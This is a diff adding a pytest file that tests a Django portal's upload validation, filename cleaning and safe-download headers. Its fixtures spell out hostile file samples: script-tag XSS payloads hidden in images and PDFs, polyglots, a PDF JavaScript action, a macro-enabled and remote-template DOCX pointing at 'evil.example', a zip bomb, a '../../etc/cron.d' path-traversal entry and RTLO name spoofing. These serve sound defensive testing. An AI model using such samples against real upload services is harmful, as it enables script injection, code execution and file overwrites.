@@ -1,0 +1,202 @@
+"""Only what we accept gets in, judged by its content, and comes out as a harmless download."""
+
+import hashlib
+import io
+import os
+import struct
+import zipfile
+import zlib
+from pathlib import Path
+
+import openpyxl
+import pytest
+from django.conf import settings
+from django.core.files.uploadedfile import InMemoryUploadedFile, SimpleUploadedFile, TemporaryUploadedFile
+from django.db import DatabaseError, transaction
+from PIL import Image
+
+from portal.documents import services
+from portal.documents.downloads import file_response
+from portal.documents.file_types import DOCX, JPEG, OFD, PDF, PNG, XLSX
+from portal.documents.models import StoredFile
+from portal.errors import InvalidInput
+from portal.ledger.models import Ledger
+from portal.organizations.models import Membership
+
+PDF_BYTES = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+SCRIPT = b"<script>alert(document.cookie)</script>"
+WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+WORD_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
+
+
+def image(form: str, **options: object) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", (60, 40), "#0b4a8f").save(out, form, **options)
+    return out.getvalue()
+
+
+def archive(parts: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", compression) as packed:
+        for name, content in parts.items():
+            packed.writestr(name, content)
+    return out.getvalue()
+
+
+def word(main: str = WORD, **more: bytes | str) -> bytes:
+    types = f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
+    extra = {name.replace("__", "/"): content for name, content in more.items()}
+    return archive({"[Content_Types].xml": types, "word/document.xml": "<w:document/>", **extra})
+
+
+def workbook() -> bytes:
+    out = io.BytesIO()
+    openpyxl.Workbook().save(out)
+    return out.getvalue()
+
+
+def png_chunk(kind: bytes, body: bytes) -> bytes:
+    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+
+
+def store(content: bytes, name: str) -> StoredFile:
+    return services.store_upload(upload=SimpleUploadedFile(name, content), by=None)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("content", "name", "content_type"),
+    [
+        (PDF_BYTES, "申请表.pdf", PDF),
+        (image("PNG"), "厂区.png", PNG),
+        (image("JPEG"), "现场.JPG", JPEG),
+        (image("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0"), "现场.jpeg", JPEG),
+        (archive({"OFD.xml": "<ofd:OFD/>", "Doc_0/Document.xml": "<x/>"}), "执照.ofd", OFD),
+        (word(), "方案.docx", DOCX),
+        (workbook(), "清单.xlsx", XLSX),
+    ],
+)
+def test_accepted_kinds(content: bytes, name: str, content_type: str) -> None:
+    stored = store(content, name)
+    path = Path(settings.MEDIA_ROOT) / stored.file.name
+    assert (stored.content_type, stored.size) == (content_type, len(content))
+    assert path.read_bytes() == content
+    assert stored.sha256 == hashlib.sha256(content).hexdigest()
+    assert stored.name == name.lower()
+    assert path.stat().st_mode & 0o007 == 0
+
+
+ATTACKS = {
+    "empty": (b"", "空.pdf", "空的"),
+    "html named pdf": (b"<!DOCTYPE html><html>" + SCRIPT, "表.pdf", "只接受"),
+    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "图.svg", "只接受"),
+    "svg named png": (b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "图.png", "只接受"),
+    "program": (b"MZ\x90\0" + b"\0" * 100, "表.pdf", "只接受"),
+    "pdf with html in front": (SCRIPT + PDF_BYTES, "表.pdf", "只接受"),
+    "pdf with html in its head": (b"%PDF-1.4\n" + SCRIPT + PDF_BYTES[9:], "表.pdf", "夹带"),
+    "pdf with an archive behind": (PDF_BYTES + archive({"a.txt": "x"}), "表.pdf", "夹带"),
+    "pdf with script": (
+        PDF_BYTES.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(x)>>"),
+        "表.pdf",
+        "脚本",
+    ),
+    "torn pdf": (PDF_BYTES[:-8], "表.pdf", "不完整"),
+    "png with html behind": (image("PNG") + SCRIPT, "图.png", "夹带"),
+    "png with html in its text": (
+        image("PNG")[:-12] + png_chunk(b"tEXt", b"Comment\0" + SCRIPT) + image("PNG")[-12:],
+        "图.png",
+        "夹带",
+    ),
+    "torn png": (image("PNG")[:-20], "图.png", "损坏"),
+    "jpeg with html in its comment": (image("JPEG", comment=SCRIPT), "图.jpg", "夹带"),
+    "jpeg with html behind": (image("JPEG") + SCRIPT, "图.jpg", "损坏"),
+    "jpeg with html and an end mark behind": (image("JPEG") + SCRIPT + b"\xff\xd9", "图.jpg", "夹带"),
+    "picture of a billion pixels": (
+        b"\x89PNG\r\n\x1a\n"
+        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0))
+        + png_chunk(b"IDAT", zlib.compress(b"\0" * 100))
+        + png_chunk(b"IEND", b""),
+        "图.png",
+        "尺寸过大",
+    ),
+    "plain archive": (archive({"a.pdf": PDF_BYTES}), "包.docx", "不接受压缩包"),
+    "docx with macro part": (word(word__vbaProject_bin=b"x").replace(b"_bin", b".bin"), "文.docx", "宏"),
+    "docm named docx": (word(WORD_MACRO), "文.docx", "宏"),
+    "docx with embedded program": (word(word__embeddings__oleObject1=b"x"), "文.docx", "宏"),
+    "docx with remote template": (
+        archive(
+            {
+                "[Content_Types].xml": f'<Types><Override ContentType="{WORD}"/></Types>',
+                "word/document.xml": "<w:document/>",
+                "word/_rels/settings.xml.rels": '<Relationship Type="http://x/attachedTemplate" '
+                'Target="http://evil.example/t.dotm" TargetMode="External"/>',
+            }
+        ),
+        "文.docx",
+        "外部",
+    ),
+    "bomb": (word(word__media=b"\0" * 40_000_000), "文.docx", "过大"),
+    "many entries": (archive({f"{n}": b"" for n in range(4000)}), "文.docx", "过大"),
+    "climbing name": (archive({"../../etc/cron.d/x": "x", "OFD.xml": "<x/>"}), "文.ofd", "夹带"),
+    "archive with something in front": (b"PK\x03\x04" + SCRIPT + word(), "文.docx", "夹带|损坏"),
+    "archive with something behind": (word() + SCRIPT, "文.docx", "夹带"),
+    "pdf named docx": (PDF_BYTES, "表.docx", "扩展名"),
+    "pdf with two endings": (PDF_BYTES, "表.pdf.exe", "扩展名"),
+    "too large": (PDF_BYTES + b"\n" * (20 * 1024 * 1024), "表.pdf", "20 MB"),
+}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_refused_files_leave_nothing_behind(attack: str, tmp_path: Path) -> None:
+    content, name, message = ATTACKS[attack]
+    before = sum(len(files) for _, _, files in os.walk(settings.MEDIA_ROOT))
+    with pytest.raises(InvalidInput, match=message):
+        store(content, name)
+    assert not StoredFile.objects.exists()
+    assert sum(len(files) for _, _, files in os.walk(settings.MEDIA_ROOT)) == before
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("sent", "kept"),
+    [
+        ("../../etc/申请表.pdf", "申请表.pdf"),
+        ("C:\\文件\\申请表.PDF", "申请表.pdf"),
+        ("申请\u202efdp.exe\u202c表.pdf", "申请fdp.exe表.pdf"),
+        ("申\u0000请\n表.pdf", "申请 表.pdf"),
+        ("长" * 300 + ".pdf", "长" * 120 + ".pdf"),
+        ("哈米提·阿克木.pdf", "哈米提·阿克木.pdf"),
+    ],
+)
+def test_names_lose_folders_and_unseen_characters(sent: str, kept: str) -> None:
+    upload = InMemoryUploadedFile(io.BytesIO(PDF_BYTES), "file", None, "text/html", len(PDF_BYTES), None)
+    upload._name = sent  # as it came over the wire, before Django shortens it
+    assert services.store_upload(upload=upload, by=None).name == kept
+
+
+def test_large_uploads_are_streamed_from_disk(ledger: Ledger, clerk: Membership) -> None:
+    content = PDF_BYTES[:-6] + b" " * 5_000_000 + b"%%EOF\n"
+    with TemporaryUploadedFile("图纸.pdf", "application/pdf", len(content), None) as upload:
+        upload.write(content)
+        stored = services.store_upload(upload=upload, by=clerk, ledger=ledger)
+    assert stored.sha256 == hashlib.sha256(content).hexdigest()
+    assert (stored.ledger, stored.uploaded_by) == (ledger, clerk)
+
+
+@pytest.mark.django_db
+def test_download_is_an_attachment_that_nothing_can_run() -> None:
+    response = file_response(store(image("PNG"), "厂区·图.png"), inline=True)
+    assert response["Content-Disposition"].startswith("attachment")
+    assert "%E5%8E%82" in response["Content-Disposition"]
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert "sandbox" in response["Content-Security-Policy"]
+    assert "no-store" in response["Cache-Control"]
+    assert b"".join(response.streaming_content) == image("PNG")
+
+
+@pytest.mark.django_db
+def test_database_refuses_to_swap_an_upload() -> None:
+    stored = store(PDF_BYTES, "表.pdf")
+    with pytest.raises(DatabaseError, match="never changes"), transaction.atomic():
+        StoredFile.objects.filter(pk=stored.pk).update(sha256="0" * 64)
